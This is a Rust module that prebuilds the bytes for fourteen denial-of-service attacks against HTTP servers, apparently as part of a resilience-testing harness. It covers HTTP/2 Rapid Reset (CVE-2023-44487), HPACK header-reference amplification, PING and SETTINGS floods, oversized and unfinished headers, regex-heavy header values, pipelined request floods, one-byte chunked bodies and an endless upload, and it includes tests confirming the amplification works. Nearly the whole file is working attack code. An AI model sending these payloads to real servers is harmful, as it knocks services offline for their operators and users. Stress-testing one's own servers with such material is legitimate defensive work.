//! What each attack sends on a connection, as bytes made ahead: the sender computes nothing while
//! it sends.

use std::fmt::Write as _;

use loona_hpack::Encoder;

/// Of a head, so many bytes: what the agent admits at most, with room for its first line.
const LARGE: usize = 240_000;

/// Fields of a head, likewise.
const FIELDS: usize = 990;

/// Requests of HTTP/2 in one connection of an attack that needs new streams all the time.
const STREAMS: u32 = 10_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What is sent on each connection.
#[derive(Clone, Debug, Default)]
pub struct Attack {
    /// Sent first, once.
    pub opening: Vec<u8>,
    /// Sent again and again after it; nothing if it is empty.
    pub repeated: Vec<u8>,
    /// The connection is closed once this was sent so often, and another one opened; 0 means never.
    pub rounds: usize,
    /// Whether responses are read.
    pub reads: bool,
}

/// Every attack, by name.
pub const NAMES: [&str; 14] = [
    "empty-fields",
    "connection-tokens",
    "unfinished-heads",
    "unread-interim",
    "header-references",
    "expression",
    "ping-acks",
    "pings",
    "settings",
    "rapid-resets",
    "connects",
    "pipelined",
    "one-byte-chunks",
    "upload",
];

/// The attack of this name.
#[must_use]
pub fn named(name: &str) -> Option<Attack> {
    Some(match name {
        "empty-fields" => head_again_and_again(&empty_fields()),
        "connection-tokens" => head_again_and_again(&connection_tokens()),
        "unfinished-heads" => Attack { opening: unfinished(), ..Attack::default() },
        "unread-interim" => Attack { opening: requests(3), ..Attack::default() },
        "header-references" => Attack { opening: references(2_000), ..Attack::default() },
        "expression" => head_again_and_again(&matched(60_000)),
        "ping-acks" => frames(&frame(6, 1, 0, b"12345678")),
        "pings" => frames(&frame(6, 0, 0, b"12345678")),
        "settings" => frames(&frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])),
        "rapid-resets" => {
            Attack { opening: resets(), repeated: Vec::new(), rounds: 1, reads: true }
        }
        "connects" => Attack { opening: get(), rounds: 1, ..Attack::default() },
        "pipelined" => Attack { repeated: get().repeat(500), reads: true, ..Attack::default() },
        "one-byte-chunks" => Attack {
            opening: b"POST /flood HTTP/1.1\r\nHost: target\r\nTransfer-Encoding: chunked\r\n\r\n"
                .to_vec(),
            repeated: b"1\r\nx\r\n".repeat(10_000),
            reads: true,
            ..Attack::default()
        },
        "upload" => Attack {
            opening:
                b"POST /flood HTTP/1.1\r\nHost: target\r\nContent-Length: 1000000000000\r\n\r\n"
                    .to_vec(),
            repeated: vec![b'x'; 1 << 18],
            reads: true,
            ..Attack::default()
        },
        _ => return None,
    })
}

fn head_again_and_again(head: &[u8]) -> Attack {
    Attack { repeated: head.to_vec(), reads: true, ..Attack::default() }
}

fn get() -> Vec<u8> {
    b"GET /flood HTTP/1.1\r\nHost: target\r\n\r\n".to_vec()
}

fn head(fields: &str) -> Vec<u8> {
    format!("GET /flood HTTP/1.1\r\nHost: target\r\n{fields}\r\n").into_bytes()
}

/// Many fields without a value before a long one.
fn empty_fields() -> Vec<u8> {
    let mut fields = "a:\r\n".repeat(FIELDS);
    let _ = write!(fields, "b: {}\r\n", "x".repeat(LARGE - fields.len()));
    head(&fields)
}

/// As many options of the connection as there is room for beside many fields.
fn connection_tokens() -> Vec<u8> {
    let mut fields = String::new();
    for at in 0..FIELDS - 1 {
        let _ = write!(fields, "x-{at}: y\r\n");
    }
    let tokens = "z,".repeat((LARGE - fields.len()) / 2);
    let _ = write!(fields, "Connection: {tokens}z\r\n");
    head(&fields)
}

/// A head without its end.
fn unfinished() -> Vec<u8> {
    let mut head = head(&format!("b: {}\r\n", "x".repeat(LARGE)));
    head.truncate(head.len() - 2);
    head
}

/// A value that a regular expression of letters a and b reads to its end.
fn matched(length: usize) -> Vec<u8> {
    head(&format!("x-matched: {}\r\n", "ab".repeat(length / 2)))
}

/// The client's preface, its SETTINGS, and a frame again and again.
fn frames(again: &[u8]) -> Attack {
    let repeated = again.repeat(5_000);
    Attack { opening: preface(), repeated, rounds: 0, reads: false }
}

fn preface() -> Vec<u8> {
    [PREFACE, &frame(4, 0, 0, &[])].concat()
}

/// A frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("payloads are small");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn request_fields(encoder: &mut Encoder<'_>) -> Vec<u8> {
    encoder.encode([
        (&b":method"[..], &b"GET"[..]),
        (b":scheme", b"http"),
        (b":path", b"/flood"),
        (b":authority", b"target"),
    ])
}

/// Whole requests on the first streams.
fn requests(count: u32) -> Vec<u8> {
    let (mut bytes, mut encoder) = (preface(), Encoder::new());
    for at in 0..count {
        bytes.extend(frame(1, 5, 2 * at + 1, &request_fields(&mut encoder)));
    }
    bytes
}

/// Requests, each cancelled at once (CVE-2023-44487).
fn resets() -> Vec<u8> {
    let (mut bytes, mut encoder) = (preface(), Encoder::new());
    for at in 0..STREAMS {
        let stream = 2 * at + 1;
        bytes.extend(frame(1, 5, stream, &request_fields(&mut encoder)));
        bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
    }
    bytes
}

/// Requests whose heads refer 60 times to a field of 4,000 bytes, the first of the dynamic table
/// (RFC 7541, section 2.3.3).
fn references(count: u32) -> Vec<u8> {
    let (mut bytes, mut encoder) = (preface(), Encoder::new());
    let mut first = request_fields(&mut encoder);
    first.extend(encoder.encode([(&b"big"[..], &[b'v'; 4_000][..])]));
    bytes.extend(frame(1, 5, 1, &first));
    // Nothing else goes to the dynamic table any more, so that the index stays.
    for at in 1..count {
        let mut fields = request_fields(&mut encoder);
        fields.extend([0xbe; 60]);
        bytes.extend(frame(1, 5, 2 * at + 1, &fields));
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_name_is_an_attack_that_sends_something() {
        for name in NAMES {
            let attack = named(name).unwrap();
            assert!(!attack.opening.is_empty() || !attack.repeated.is_empty(), "{name}");
        }
        assert!(named("other").is_none());
    }

    #[test]
    fn references_point_to_the_large_field() {
        let bytes = references(3);
        let mut decoder = loona_hpack::Decoder::new();
        let mut at = PREFACE.len();
        let mut sizes = Vec::new();
        while at < bytes.len() {
            let length = usize::from(bytes[at + 1]) << 8 | usize::from(bytes[at + 2]);
            let payload = &bytes[at + 9..at + 9 + length];
            if bytes[at + 3] == 1 {
                let fields = decoder.decode(payload).unwrap();
                sizes.push(fields.iter().map(|(_, value)| value.len()).sum::<usize>());
            }
            at += 9 + length;
        }
        assert!(sizes[0] > 4_000 && sizes[1] > 240_000 && sizes[2] > 240_000, "{sizes:?}");
    }
}
